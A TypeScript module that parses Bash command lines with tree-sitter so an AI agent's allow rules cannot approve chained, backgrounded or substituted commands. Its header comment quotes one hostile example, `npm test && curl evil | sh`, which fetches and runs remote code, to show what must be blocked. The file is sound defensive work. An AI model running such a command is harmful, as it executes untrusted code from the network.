/**
 * What a Bash command line runs, for allow rules: the simple commands it is made of, found by
 * tree-sitter's bash grammar (a real parser, not a regex), or why no `Bash(…)` pattern may
 * approve it. `Bash(npm test:*)` must not approve `npm test && curl evil | sh` or
 * `npm test $(…)`: the first is two more commands, the second runs one inside an argument.
 *
 * Conservative by design: anything the walk does not know (loops, subshells, functions,
 * assignments, backgrounding, substitutions, redirection outside the workdir, a parse error)
 * makes the call one that only a person, or a bare `Bash` rule, can approve.
 */
import { readFile } from 'node:fs/promises';
import { Language, type Node, Parser } from 'web-tree-sitter';
import { resolveInWorkdir } from './paths';
import { ToolError } from './tool';

export type CommandLine = { ok: true; commands: string[][] } | { ok: false; reason: string };

let parser: Promise<Parser> | undefined;

/** Loaded once per worker: the wasm runtime and the grammar (a few milliseconds, then microseconds per parse). */
function bashParser(): Promise<Parser> {
  parser ??= (async () => {
    await Parser.init();
    // Bytes, not a path: loading by path takes a dynamic import that Jest's VM cannot run.
    const grammar = await Language.load(await readFile(require.resolve('tree-sitter-bash/tree-sitter-bash.wasm')));
    return new Parser().setLanguage(grammar);
  })();
  return parser;
}

/** The simple commands of a command line, each as its words (quotes removed), or why it cannot be matched. */
export async function parseCommandLine(command: string, workdir: string): Promise<CommandLine> {
  const tree = (await bashParser()).parse(command);
  if (!tree) return { ok: false, reason: 'it could not be parsed' };
  try {
    if (tree.rootNode.hasError) return { ok: false, reason: 'it does not parse as a shell command' };
    const commands: string[][] = [];
    statements(tree.rootNode, workdir, commands);
    return { ok: true, commands };
  } catch (error) {
    if (error instanceof Unmatchable) return { ok: false, reason: error.message };
    throw error;
  } finally {
    tree.delete();
  }
}

class Unmatchable extends Error {}

/** Lists, pipelines and sequences hold statements; the operators between them are fine, `&` is not. */
const CONTAINERS = new Set(['program', 'list', 'pipeline', 'negated_command']);
const OPERATORS = new Set(['&&', '||', '|', '|&', ';', '!', '\n']);

function statements(node: Node, workdir: string, commands: string[][]): void {
  for (const child of node.children) {
    if (!child) continue;
    if (!child.isNamed) {
      if (child.type === '&') throw new Unmatchable('it runs something in the background (&)');
      if (!OPERATORS.has(child.type)) throw new Unmatchable(`it uses ${JSON.stringify(child.type)}`);
      continue;
    }
    if (child.type === 'comment') continue;
    if (CONTAINERS.has(child.type)) statements(child, workdir, commands);
    else if (child.type === 'command') commands.push(simpleCommand(child, workdir));
    else if (child.type === 'redirected_statement') redirectedStatement(child, workdir, commands);
    else throw new Unmatchable(describe(child.type));
  }
}

function redirectedStatement(node: Node, workdir: string, commands: string[][]): void {
  for (const child of node.namedChildren) {
    if (!child) continue;
    if (child.type === 'command') commands.push(simpleCommand(child, workdir));
    else if (child.type.endsWith('_redirect')) redirect(child, workdir);
    else if (CONTAINERS.has(child.type)) statements(child, workdir, commands);
    else throw new Unmatchable(describe(child.type));
  }
}

function simpleCommand(node: Node, workdir: string): string[] {
  const words: string[] = [];
  for (const child of node.namedChildren) {
    if (!child) continue;
    if (child.type === 'variable_assignment')
      throw new Unmatchable('it sets variables for the command (NAME=value command)');
    if (child.type.endsWith('_redirect')) {
      redirect(child, workdir);
      continue;
    }
    if (child.type === 'command_name') {
      const name = child.namedChildren[0];
      if (!name || name.type !== 'word')
        throw new Unmatchable('its command name is not written out (it comes from an expansion or a string)');
      words.push(unescape(name.text));
      continue;
    }
    words.push(wordValue(child));
  }
  return words;
}

/** An argument's value as the command receives it (quotes removed); substitutions are refused. */
function wordValue(node: Node): string {
  switch (node.type) {
    case 'word':
      return unescape(node.text);
    case 'number':
    case 'simple_expansion':
    case 'ansi_c_string':
    case 'brace_expression':
      return node.text;
    case 'raw_string':
      return node.text.slice(1, -1);
    case 'expansion':
      if (node.namedChildren.every((child) => child?.type === 'variable_name')) return node.text;
      throw new Unmatchable('it uses a parameter expansion with operators (${…})');
    case 'string':
      for (const child of node.namedChildren) if (child && child.type !== 'string_content') wordValue(child);
      return node.text.slice(1, -1);
    case 'concatenation':
      return node.namedChildren.map((child) => (child ? wordValue(child) : '')).join('');
    default:
      throw new Unmatchable(describe(node.type));
  }
}

/** `> file`, `< file`, `2>&1`, heredocs: fine while they stay inside the workdir and run nothing. */
function redirect(node: Node, workdir: string): void {
  if (node.type === 'heredoc_redirect') {
    const body = node.descendantsOfType([
      'command_substitution',
      'process_substitution',
      'arithmetic_expansion',
      'expansion',
    ]);
    if (body.length) throw new Unmatchable('its here-document runs substitutions');
    return;
  }
  if (node.type === 'herestring_redirect') {
    for (const child of node.namedChildren) if (child) wordValue(child);
    return;
  }
  if (node.type !== 'file_redirect') throw new Unmatchable(describe(node.type));
  const destination = node.childForFieldName('destination');
  if (!destination || destination.type === 'number' || destination.text === '-') return;
  const path = wordValue(destination);
  if (path.includes('$') || path.includes('`'))
    throw new Unmatchable('it redirects to a path that comes from an expansion');
  if (path === '/dev/null') return;
  try {
    resolveInWorkdir(workdir, path.startsWith('~') ? `/${path}` : path);
  } catch (error) {
    if (error instanceof ToolError)
      throw new Unmatchable(`it redirects to or from ${path}, outside the working directory`);
    throw error;
  }
}

function unescape(text: string): string {
  return text.replace(/\\(.)/gs, '$1');
}

const DESCRIPTIONS: Record<string, string> = {
  command_substitution: 'it runs a command inside the command ($(…) or `…`)',
  process_substitution: 'it uses process substitution (<(…) or >(…))',
  arithmetic_expansion: 'it uses arithmetic expansion ($((…)))',
  subshell: 'it runs a subshell ((…))',
  variable_assignment: 'it assigns variables',
};

function describe(type: string): string {
  return DESCRIPTIONS[type] ?? `it uses a ${type.replace(/_/g, ' ')}`;
}
